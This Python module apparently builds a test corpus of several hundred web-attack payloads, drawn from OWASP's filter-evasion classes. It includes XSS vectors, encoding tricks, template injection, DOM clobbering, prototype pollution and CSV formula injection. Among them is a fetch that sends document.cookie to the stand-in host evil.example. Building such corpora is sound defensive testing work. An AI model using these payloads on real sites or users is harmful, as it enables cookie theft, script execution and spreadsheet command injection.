"""Texts that try to become more than text, made by combining classes of vectors.

Each one, wherever a page would take it for markup, script, an address or a formula, would set
`window.ran`, open a dialog, or ask a foreign host. (Classes after OWASP's XSS Filter Evasion Cheat
Sheet, "DOM Clobbering" and "CSV Injection".)
"""

from __future__ import annotations

HOST = "evil.example"
CALLS = ("window.ran=1", "alert(1)", f"fetch('//{HOST}/?'+document.cookie)", "top['ra'+'n']=1")
ELEMENTS = (
    "<script>{js}</script>",
    "<script src=//{host}/x.js></script>",
    "<img src=x onerror={js}>",
    '<img src="//{host}/i.png">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload='{js}'></svg>#x\">",
    '<math><mi//xlink:href="data:x,<script>{js}</script>">',
    "<body onload={js}>",
    "<iframe src=javascript:{js}></iframe>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "<object data=javascript:{js}></object>",
    "<embed src=//{host}/x.swf>",
    "<a href=javascript:{js} autofocus onfocus={js}>x</a>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}>x</details>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=//{host}'>",
    "<link rel=stylesheet href=//{host}/x.css>",
    "<style>@import'//{host}/x.css';*{{background:url(//{host}/b)}}</style>",
    "<base href=//{host}/>",
    "<form action=//{host}><button>x</button></form>",
    "<template><img src=x onerror={js}></template>",
    "<x onclick={js} style=position:fixed;inset:0>x</x>",
    "<div style=\"background:url('//{host}/b')\">x</div>",
    "<portal src=//{host}></portal>",
    "<custom-element is=x onpointerover={js}>",
)
BREAKOUTS = (
    "{x}",
    '">{x}',
    "'>{x}",
    "</textarea>{x}",
    "</title></style></script>{x}",
    "--><!-- -->{x}",
    "]]>{x}",
    "`{x}`",
    "<!--{x}",
    "<noscript><p title='</noscript>{x}'>",
    "<math><mtext><table><mglyph><style><!--</style>{x}",
    "\N{RIGHT-TO-LEFT OVERRIDE}{x}",
    "\N{ZERO WIDTH SPACE}{x}\N{ZERO WIDTH SPACE}",
)
ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "\x01javascript:{js}",
    "javascript://{host}/%0a{js}",
    "data:text/html,<script>{js}</script>",
    "vbscript:msgbox(1)",
    "blob:null/x",
    "//{host}/",
    "https://{host}/?a=<script>{js}</script>",
    "tg://resolve?domain=x",
)
TEMPLATES = (
    "${{{js}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "<%= {js} %>",
    "#{{{js}}}",
    "{{name}}",
    "{{0.__class__}}",
    "%(x)s%n",
)
ENCODED = (
    "&lt;img src=x onerror={js}&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "%3Cscript%3E{js}%3C/script%3E",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{js}",
    "<scr\0ipt>{js}</scr\0ipt>",
    "<ScRiPt>{js}</sCrIpT>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
)
CLOBBERS = tuple(
    f"<{tag} id={name} name={name}>{name}"
    for tag in ("img", "form", "a", "input")
    for name in ("app", "announcer", "main", "body", "cookie", "getElementById", "trustedTypes")
)
FORMULAS = tuple(
    start + body
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\uff1d")
    for body in (f'HYPERLINK("//{HOST}","x")', "cmd|'/C calc'!A0", f'WEBSERVICE("//{HOST}")')
)
PROTOTYPES = ("__proto__", "constructor", "toString", "hasOwnProperty", '{"__proto__":{"ran":1}}')


def payloads() -> list[str]:
    """All of them, each once; more than 500."""
    shapes = [breakout.replace("{x}", one) for one in ELEMENTS for breakout in BREAKOUTS]
    shapes += [*ADDRESSES, *TEMPLATES, *ENCODED]
    made = [shape.format(js=CALLS[at % len(CALLS)], host=HOST) for at, shape in enumerate(shapes)]
    for shape in (*ADDRESSES, *TEMPLATES, *ENCODED):
        made += [shape.format(js=js, host=HOST) for js in CALLS]
    return list(dict.fromkeys([*made, *CLOBBERS, *FORMULAS, *PROTOTYPES]))
